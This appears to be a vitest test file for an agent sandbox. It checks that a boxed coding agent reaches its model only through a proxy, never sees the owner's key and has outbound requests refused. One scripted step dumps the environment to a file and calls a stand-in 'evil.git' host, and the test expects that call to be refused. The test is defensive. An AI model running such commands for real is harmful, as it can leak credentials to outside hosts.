import { describe, expect, it } from "vitest";
import { findSandbox } from "../../../src/agents/find-sandbox.ts";
import type { OfflineAgent } from "../../../src/simulation/real-agents/recipes.ts";
import { openOffice, type Worker, workersHere } from "./at-work.ts";

const { confined } = await findSandbox("auto");
const REAL_KEY = "the-real-key-of-the-owner";

/** The same program in a box without the network, its model reached by way of Signalbox. */
function boxed({ offline, ...worker }: Worker): Worker {
  const inBox = (baseUrl: string): OfflineAgent => {
    const { config, env } = offline("{modelUrl}");
    return {
      config: { ...config, env: [], model: { baseUrl, keyEnv: "OWNERS_KEY", dialect: "openai", env } },
      env: { OWNERS_KEY: REAL_KEY },
    };
  };
  return { ...worker, offline: inBox };
}

describe.skipIf(!confined).each(await workersHere())("%s in a box without the network", (_, worker) => {
  it("works with its model, reaches nothing else, never sees the key, and what it used is counted", async () => {
    const { model, desk } = await openOffice(boxed(worker));
    const at = await desk();
    const run = await at.start([
      { do: { run: "env > env.txt; git ls-remote http://192.0.2.1/evil.git; true" } },
      { do: { read: "src/sum.js" } },
      { do: { edit: "src/sum.js", find: "a - b", replace: "a + b" } },
      { say: "The sum is mended." },
    ]);
    expect(await run.finished, at.said()).toMatchObject({ reason: "completed" });
    expect(await at.read("src/sum.js")).toContain("a + b");
    const env = (await at.read("env.txt")) ?? "";
    expect(env).toContain("SIGNALBOX_MODEL_URL");
    expect(env).not.toContain(REAL_KEY);
    expect(model.requests().length).toBeGreaterThan(2);
    const refused = at.events.flatMap((event) => (event.kind === "refused" ? [event.what] : []));
    expect(refused.join("\n")).toContain("http://192.0.2.1/evil.git");
    const used = at.events.flatMap((event) => (event.kind === "usage" ? [event.inputTokens] : []));
    expect(Math.max(0, ...used)).toBeGreaterThan(0);
    expect(await at.leftRunning()).toEqual([]);
  });
});
